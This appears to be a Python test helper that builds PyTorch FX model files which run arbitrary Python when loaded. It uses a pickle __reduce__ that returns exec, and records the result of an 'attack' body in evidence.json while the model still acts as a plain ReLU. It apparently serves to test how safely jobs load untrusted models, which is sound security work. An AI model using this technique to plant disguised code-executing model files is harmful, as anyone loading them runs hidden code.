"""Models that run Python when a job opens them."""

import io
import textwrap
from collections.abc import Callable
from typing import Any

import torch
from torch import fx, nn

HARNESS = """
import json, os
def attack():
{body}
try:
    evidence = {{"did": attack()}}
except BaseException as error:
    evidence = {{"error": type(error).__name__, "text": str(error)}}
with open("evidence.new", "w") as file:
    json.dump(evidence, file)
os.rename("evidence.new", "evidence.json")
"""


class Bomb:
    """Unpickles to ``None``, having run some Python."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str, dict[str, Any]]]:
        return exec, (self.source, {})


def payload(body: str) -> str:
    """The source that runs a function's body and records its result or exception in ``evidence.json``."""
    return HARNESS.format(body=textwrap.indent(textwrap.dedent(body), "    "))


def malicious_model(body: str) -> bytes:
    """An FX file that runs a function's body when loaded and records its result or exception.

    If the body returns, the model works normally: it takes ``input`` and returns ``relu(input)``.
    """
    module = fx.symbolic_trace(nn.ReLU())
    module.bomb = Bomb(payload(body))  # type: ignore[assignment]
    file = io.BytesIO()
    torch.save(module, file)
    return file.getvalue()
